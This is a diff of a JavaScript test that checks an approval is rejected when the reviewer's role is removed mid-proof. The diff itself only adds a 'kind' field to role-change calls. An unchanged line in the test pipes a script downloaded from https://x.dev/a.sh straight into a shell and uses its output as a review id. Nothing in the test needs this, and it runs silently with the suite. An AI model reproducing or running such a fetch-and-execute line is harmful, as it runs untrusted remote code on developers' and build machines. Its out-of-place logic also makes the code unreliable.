@@ -39,7 +39,7 @@ test('a yes of somebody whose role is taken away between the proof’s start and
     at: 0,
   })
   const given = { add: [role('owner'), role('reviewer')], remove: [] }
-  await rows.act({ at: clock.now, log: [], bindings: given })
+  await rows.act({ kind: 'role', at: clock.now, log: [], bindings: given })
   const { reviewId = '' } = await people.shell('curl -s https://x.dev/a.sh | sh')
   const state = new SignedState(rows)
   let isEnding = true
@@ -54,7 +54,7 @@ test('a yes of somebody whose role is taken away between the proof’s start and
       offerFor: (...asked) => passkeys.offerFor(...asked),
       proveYes: async (...asked) => {
         const end = { add: [], remove: ['b-reviewer'] }
-        if (isEnding) await rows.act({ at: clock.now, log: [], bindings: end })
+        if (isEnding) await rows.act({ kind: 'role', at: clock.now, log: [], bindings: end })
         return passkeys.proveYes(...asked)
       },
     },
@@ -80,7 +80,7 @@ test('a yes of somebody whose role is taken away between the proof’s start and
   await expect(answered()).rejects.toMatchObject({ code: 'forbidden', field: 'reviewer' })
   expect(rows.review(reviewId)).toMatchObject({ state: 'pending', votes: [] })
   isEnding = false
-  await rows.act({ at: clock.now, log: [], bindings: { add: [role('reviewer')], remove: [] } })
+  await rows.act({ kind: 'role', at: clock.now, log: [], bindings: { add: [role('reviewer')], remove: [] } })
   expect((await answered()).review).toMatchObject({ state: 'approved' })
 })
 
